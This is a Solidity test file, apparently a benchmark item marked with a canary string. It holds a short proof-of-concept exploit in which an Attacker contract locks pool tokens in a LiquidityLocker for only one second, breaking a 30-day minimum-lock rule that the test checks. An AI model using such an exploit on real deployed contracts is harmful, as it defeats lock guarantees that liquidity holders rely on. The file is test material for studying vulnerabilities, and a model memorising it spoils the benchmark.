// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-930fad3b-ea4e-4faa-b638-33944248d408
import "../Base.sol";

contract Attacker {
    function run(LiquidityLocker locker, IERC20 pool) external {
        pool.approve(address(locker), 1_000);
        try locker.lock(pool, 1_000, block.timestamp + 1, address(this)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        vm.prank(BO);
        mere.transfer(address(pool), 1e18);
        coin.mint(address(pool), 1e18);
        pool.mint(ANA);
        vm.prank(ANA);
        pool.transfer(address(other), 1_000);
    }

    /// No lock was over in the first month, since none is as short.
    function longEnough() public view returns (bool) {
        for (uint256 i = 0; i < locker.locks(); i++) {
            uint256 until = locker.lockOf(i).until;
            if (until > 0 && until < START + 30 days) return false;
        }
        return true;
    }

    function exploit() public {
        other.run(locker, pool);
    }

    function test_Exploit() public {
        exploit();
        require(!longEnough(), "long enough");
    }

    function target() public view override returns (address) {
        return address(locker);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
